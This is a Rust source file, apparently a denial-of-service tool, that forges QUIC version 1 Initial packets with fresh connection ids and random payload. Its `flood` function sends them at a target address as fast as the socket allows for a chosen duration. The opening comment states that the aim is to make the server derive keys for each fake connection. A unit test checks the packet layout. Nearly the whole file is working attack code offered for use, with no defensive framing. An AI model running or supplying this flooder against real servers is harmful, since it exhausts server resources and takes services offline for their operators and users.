//! First packets of QUIC (RFC 9000, 17.2.2) that nobody means: each begins a connection of its own,
//! and makes the server derive keys for it to find that what follows is garbage.

use std::io;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// Bytes of a packet: the least that a server looks at.
const PACKET_LEN: usize = 1200;
/// Packets between two looks at the clock.
const PACKETS_PER_LOOK: u64 = 64;

/// An Initial packet of version 1 whose connection ids come from `seed`.
#[must_use]
pub fn initial(seed: u64) -> Vec<u8> {
    let mut packet = Vec::with_capacity(PACKET_LEN);
    // Long header, fixed bit, Initial, packet number of one byte; version 1.
    packet.extend([0xC0, 0, 0, 0, 1]);
    for id in [seed, !seed] {
        packet.push(8);
        packet.extend(id.to_be_bytes());
    }
    // No token; the length of the rest in two bytes.
    packet.push(0);
    let rest = PACKET_LEN - packet.len() - 2;
    packet.extend((0x4000 | rest as u16).to_be_bytes());
    let mut state = seed | 1;
    packet.resize_with(PACKET_LEN, || {
        // Marsaglia's xorshift: anything but zeros.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    });
    packet
}

/// Sends such packets as fast as the socket takes them, for `limit`. Returns how many.
///
/// # Errors
/// When there is no socket to send from.
pub fn flood(addr: SocketAddr, limit: Duration) -> io::Result<u64> {
    let any: std::net::IpAddr = match addr {
        SocketAddr::V4(_) => Ipv4Addr::UNSPECIFIED.into(),
        SocketAddr::V6(_) => Ipv6Addr::UNSPECIFIED.into(),
    };
    let socket = UdpSocket::bind((any, 0))?;
    let (start, mut sent) = (Instant::now(), 0_u64);
    while start.elapsed() < limit {
        for _ in 0..PACKETS_PER_LOOK {
            // One that is lost is one less.
            let seed = (sent + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
            sent += u64::from(socket.send_to(&initial(seed), addr).is_ok());
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_is_an_initial_of_the_least_length() {
        let packet = initial(7);
        assert_eq!(packet.len(), PACKET_LEN);
        assert_eq!(packet[..6], [0xC0, 0, 0, 0, 1, 8]);
        let rest = usize::from(u16::from_be_bytes([packet[24], packet[25]]) & 0x3FFF);
        assert_eq!(26 + rest, PACKET_LEN);
        assert_ne!(initial(8)[6..14], packet[6..14]);
    }
}
